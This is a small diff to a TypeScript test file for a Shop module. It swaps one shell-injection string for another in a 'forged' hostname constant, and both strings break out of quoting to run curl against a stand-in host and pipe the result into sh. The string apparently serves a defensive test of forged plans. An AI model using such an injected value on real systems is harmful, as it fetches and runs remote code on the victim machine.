@@ -6,7 +6,7 @@ import { Shop } from '../shop.ts'
 vi.setConfig({ testTimeout: 60_000 })
 
 /** A name that a shell takes for a command, as a plan that was edited and sealed again may have it. */
-const forged = "www.example.com';curl${IFS}evil.example|sh;'"
+const forged = "www.example.com';curl$IFS\\evil.example|sh;'"
 
 /** The plan with another list of names, and with the digest that fits it: `check` is no signature. */
 function withName(plan: string): string {
